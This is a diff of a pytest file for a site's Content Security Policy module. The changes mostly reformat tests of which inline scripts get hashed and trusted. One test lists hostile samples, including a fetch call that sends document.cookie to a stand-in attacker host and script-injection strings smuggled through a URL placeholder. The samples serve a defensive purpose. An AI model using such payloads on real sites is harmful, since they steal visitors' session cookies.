@@ -29,7 +29,8 @@ def trusted(tmp_path):
     (templates / "partials" / "skip.html").write_text("<script>{% if x %}go(){% endif %}</script>", encoding="utf-8")
     # An external script and a JSON data block are not inline code.
     (templates / "partials" / "data.html").write_text(
-        '<script src="x.js"></script><script type="application/json">{"a": 1}</script>', encoding="utf-8")
+        '<script src="x.js"></script><script type="application/json">{"a": 1}</script>', encoding="utf-8"
+    )
     return csp.TrustedScripts.from_templates([templates])
 
 
@@ -42,21 +43,24 @@ def test_the_theme_script_is_trusted_with_any_short_url_in_its_expression(truste
     assert trusted.trusts(THEME_SCRIPT.replace("{{ base_url }}", base))
 
 
-@pytest.mark.parametrize("script", [
-    # untrusted: nothing like the theme
-    "alert(1)",
-    'fetch("https://evil.example.net/?c=" + document.cookie)',
-    # trusted plus more, after, before, and in the middle
-    THEME_SCRIPT.replace("{{ base_url }}", "..") + ';fetch("https://evil.example.net/")',
-    'fetch("https://evil.example.net/");' + THEME_SCRIPT.replace("{{ base_url }}", ".."),
-    THEME_SCRIPT.replace("{{ base_url }}", '"; fetch("//evil.example.net/"); "'),
-    # the expression's stand-in only takes URL characters: no quote, no parenthesis, no space
-    THEME_SCRIPT.replace("{{ base_url }}", "a b"),
-    THEME_SCRIPT.replace("{{ base_url }}", 'a"b'),
-    # the theme script with one character changed outside the expression
-    THEME_SCRIPT.replace("{{ base_url }}", "..").replace("js", "jz"),
-    "",
-])
+@pytest.mark.parametrize(
+    "script",
+    [
+        # untrusted: nothing like the theme
+        "alert(1)",
+        'fetch("https://evil.example.net/?c=" + document.cookie)',
+        # trusted plus more, after, before, and in the middle
+        THEME_SCRIPT.replace("{{ base_url }}", "..") + ';fetch("https://evil.example.net/")',
+        'fetch("https://evil.example.net/");' + THEME_SCRIPT.replace("{{ base_url }}", ".."),
+        THEME_SCRIPT.replace("{{ base_url }}", '"; fetch("//evil.example.net/"); "'),
+        # the expression's stand-in only takes URL characters: no quote, no parenthesis, no space
+        THEME_SCRIPT.replace("{{ base_url }}", "a b"),
+        THEME_SCRIPT.replace("{{ base_url }}", 'a"b'),
+        # the theme script with one character changed outside the expression
+        THEME_SCRIPT.replace("{{ base_url }}", "..").replace("js", "jz"),
+        "",
+    ],
+)
 def test_a_script_that_is_not_exactly_the_theme_script_is_not_trusted(trusted, script):
     assert not trusted.trusts(script)
 
@@ -85,7 +89,8 @@ def test_without_trusted_patterns_no_inline_script_gets_a_hash():
 def test_the_policy_string_is_written_out():
     assert csp.policy() == (
         "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data:; font-src 'self'; "
-        "connect-src 'self'; base-uri 'self'; form-action 'self'; object-src 'none'")
+        "connect-src 'self'; base-uri 'self'; form-action 'self'; object-src 'none'"
+    )
 
 
 def test_wasm_is_allowed_only_on_pages_that_load_pagefind(trusted):
@@ -99,15 +104,26 @@ def test_hashes_are_sorted_and_each_given_once(trusted):
     a = THEME_SCRIPT.replace("{{ base_url }}", "a")
     b = THEME_SCRIPT.replace("{{ base_url }}", "b")
     page = f"<head><script>{b}</script><script>{a}</script><script>{b}</script></head>"
-    hashes = [s for s in re.search(r"script-src ([^;]*)", csp.page_policy(page, trusted)).group(1).split()
-              if s.startswith("'sha256-")]
+    hashes = [
+        s
+        for s in re.search(r"script-src ([^;]*)", csp.page_policy(page, trusted)).group(1).split()
+        if s.startswith("'sha256-")
+    ]
     assert hashes == sorted({_hash(a), _hash(b)})
 
 
-@pytest.mark.parametrize("attrs,executed", [
-    ("", True), (' type="module"', True), (" type=text/javascript", True), (' type="application/json"', False),
-    (' type="text/template"', False), (' src="a.js"', False), (" SRC=a.js", False),
-])
+@pytest.mark.parametrize(
+    "attrs,executed",
+    [
+        ("", True),
+        (' type="module"', True),
+        (" type=text/javascript", True),
+        (' type="application/json"', False),
+        (' type="text/template"', False),
+        (' src="a.js"', False),
+        (" SRC=a.js", False),
+    ],
+)
 def test_inline_scripts_are_those_the_browser_runs(attrs, executed):
     assert csp.inline_scripts(f"<script{attrs}>x()</script>") == (["x()"] if executed else [])
 
@@ -121,7 +137,9 @@ def test_protect_puts_the_tag_right_after_the_charset_once(trusted):
     protected = csp.protect(page, trusted)
     assert protected.startswith('<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy"')
     assert csp.protect(protected, trusted) == protected
-    with pytest.raises(ValueError, match=r"^siden har intet <head>, så sikkerhedspolitikken \(CSP\) kan ikke sættes ind$"):
+    with pytest.raises(
+        ValueError, match=r"^siden har intet <head>, så sikkerhedspolitikken \(CSP\) kan ikke sættes ind$"
+    ):
         csp.protect("<body></body>", trusted)
 
 
@@ -135,7 +153,7 @@ def test_an_external_script_does_not_hide_the_inline_scripts_after_it():
 
 
 def test_templates_with_danish_letters_are_read_as_utf8(tmp_path):
-    (tmp_path / "t.html").write_bytes('<script>var s = "Søg på æbler"</script>'.encode("utf-8"))
+    (tmp_path / "t.html").write_bytes('<script>var s = "Søg på æbler"</script>'.encode())
     trusted = csp.TrustedScripts.from_templates([tmp_path])
     assert trusted.trusts('var s = "Søg på æbler"')
 
@@ -145,6 +163,8 @@ def test_protect_writes_the_policy_as_it_is_with_the_hash_of_the_theme_script(tr
     page = f'<html><head><meta charset="utf-8"><script>{good}</script></head></html>'
     # Single quotes stay as they are in the attribute (it is delimited by double quotes).
     assert csp.protect(page, trusted) == page.replace(
-        '<meta charset="utf-8">', '<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="'
+        '<meta charset="utf-8">',
+        '<meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="'
         f"default-src 'none'; script-src 'self' {_hash(good)}; style-src 'self'; img-src 'self' data:; "
-        "font-src 'self'; connect-src 'self'; base-uri 'self'; form-action 'self'; object-src 'none'\">")
+        "font-src 'self'; connect-src 'self'; base-uri 'self'; form-action 'self'; object-src 'none'\">",
+    )
